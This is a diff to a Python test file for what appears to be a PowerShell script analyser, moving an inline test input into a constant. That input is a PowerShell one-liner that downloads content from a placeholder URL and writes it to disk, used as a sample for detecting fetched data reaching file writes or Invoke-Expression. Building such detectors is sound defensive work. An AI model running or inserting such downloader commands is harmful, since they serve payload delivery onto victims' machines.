@@ -10,6 +10,10 @@ from tidewaiter.reading.powershell import parse
 
 URL = "http://example.com/x"
 CLASS_ID = "{F6D90F16-9C73-11D3-B32E-00C04F990BB4}"
+READ_AND_WRITE = (
+    "$r=[Net.WebRequest]::Create('{0}').GetResponse().GetResponseStream();$b=New-Object byte[] 64;"
+    "$f=New-Object IO.FileStream 'C:\\y','Create';while(($n=$r.Read($b,0,64)) -gt 0){{$f.Write($b,0,$n)}}"
+)
 
 
 def read(text: str) -> Script:
@@ -170,8 +174,7 @@ def test_what_is_fetched_reaches_invoke_expression(text: str, fetch: str) -> Non
             "C:\\y",
         ),
         (
-            "$b=New-Object byte[] 64;$r=[Net.WebRequest]::Create('{0}').GetResponse().GetResponseStream();"
-            + "$f=New-Object IO.FileStream 'C:\\y','Create';while(($n=$r.Read($b,0,64)) -gt 0){{$f.Write($b,0,$n)}}",
+            READ_AND_WRITE,
             "system.io.filestream.write",
             "C:\\y",
         ),
